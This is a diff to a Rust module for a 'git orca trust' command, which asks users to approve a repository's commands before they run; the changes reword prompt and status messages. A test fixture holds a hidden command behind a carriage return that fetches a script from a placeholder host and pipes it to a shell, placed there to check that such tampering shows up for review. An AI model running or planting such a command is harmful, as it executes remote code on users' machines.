@@ -30,7 +30,7 @@ pub fn main(args: &TrustArgs) -> Result<u8, Refusal> {
         records.forget();
         trust::store::save(&file, &records)?;
         report::say(&format!(
-            "agreement to {forgotten} texts of this repository taken back; git orca trust asks again"
+            "{forgotten} commands of this repository are no longer trusted; git orca trust asks again"
         ));
         return Ok(0);
     }
@@ -51,7 +51,7 @@ pub fn main(args: &TrustArgs) -> Result<u8, Refusal> {
 fn record(records: &mut Records, items: &[Item], file: &Path) -> Result<()> {
     records.agree(items, Timestamp::now());
     trust::store::save(file, records)?;
-    report::say(&format!("agreed and recorded in {}; git orca trust --forget takes it back", file.display()));
+    report::say(&format!("trusted, and recorded in {}; git orca trust --forget takes it back", file.display()));
     Ok(())
 }
 
@@ -80,7 +80,7 @@ fn planned(here: &Here, plans: &[PathBuf], settings: &Settings) -> Result<(Strin
         }
         Err(error) if !plans.is_empty() => Err(error.into()),
         Err(_) => {
-            report::say("no plan named, and none found that is the only one: looking at the repository's own files");
+            report::say("no plan named, and not exactly one found: looking only at the repository's own files");
             Ok((String::new(), Vec::new()))
         }
     }
@@ -97,7 +97,7 @@ fn agreed(standing: &TrustStatus) -> Result<bool> {
     }
     let asked = standing.new.len() + standing.changed.len();
     loop {
-        match ask(&format!("Trust these {asked} texts of this repository? [y]es  [n]o  [d]iff: ")) {
+        match ask(&format!("Trust these {asked} commands of this repository? [y]es  [n]o  [d]iff: ")) {
             'y' => return Ok(true),
             'd' => report::say(&diff(&Unseen { new: standing.new.clone(), changed: standing.changed.clone() })),
             _ => return Ok(false),
@@ -108,7 +108,7 @@ fn agreed(standing: &TrustStatus) -> Result<bool> {
 /// Every text with what is known of it, all of it: whoever agrees has seen it.
 fn listed(standing: &TrustStatus) -> String {
     if standing.new.is_empty() && standing.changed.is_empty() && standing.known.is_empty() {
-        return "this repository wants to run nothing of its own".to_owned();
+        return "this repository has no commands of its own to run".to_owned();
     }
     let width = standing
         .new
@@ -157,6 +157,6 @@ was      gates.test.run  pytest -q
 changed  gates.test.run  pytest -q\\u{d}; curl -s https://x.example/t | sh
 trusted  finish.deploy   make deploy";
         assert_eq!(listed(&standing), expected);
-        assert_eq!(listed(&TrustStatus::default()), "this repository wants to run nothing of its own");
+        assert_eq!(listed(&TrustStatus::default()), "this repository has no commands of its own to run");
     }
 }
